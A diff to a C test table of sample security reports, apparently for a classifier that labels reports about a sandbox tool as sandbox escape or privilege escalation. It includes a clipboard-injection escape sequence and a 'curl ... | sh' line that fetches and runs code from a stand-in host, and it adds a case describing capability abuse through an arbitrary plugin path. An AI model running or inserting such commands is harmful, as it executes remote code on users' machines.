@@ -31,6 +31,12 @@ static const ClassCase class_cases[] = {
 	  "  msb run -d --name esc alpine -- sh -c 'printf \"\\033]52;c;%s\\a\" \"$(printf x | base64)\"'\n"
 	  "  $ msb logs esc\n  $ xclip -o -selection clipboard\n  curl -s http://203.0.113.50/x | sh\n",
 	  "sandbox_escape", "core" },
+	/* (3516) a user's own code run with a capability they do not hold
+	 * is privilege escalation, whatever the capability then reaches */
+	{ "msb-netd loads --plugin from anywhere while holding file caps",
+	  "msb-netd takes --plugin <path> and dlopen()s it. So any local user, not even in the msb group, runs "
+	  "their own code with CAP_NET_ADMIN and CAP_NET_RAW: flush the host firewall, sniff other users' and "
+	  "other sandboxes' traffic on the bridge.\n", "privilege_escalation", "core" },
 	/* (3514) Czech: "Únik ze sandboxu", code run "na hostiteli" */
 	{ "msb spou\u0161t\u00ed hook ze sd\u00edlen\u00e9ho adres\u00e1\u0159e",
 	  "Dopad:\n\u00danik ze sandboxu. Libovoln\u00fd k\u00f3d v sandboxu z\u00edsk\u00e1 spu\u0161t\u011bn\u00ed "
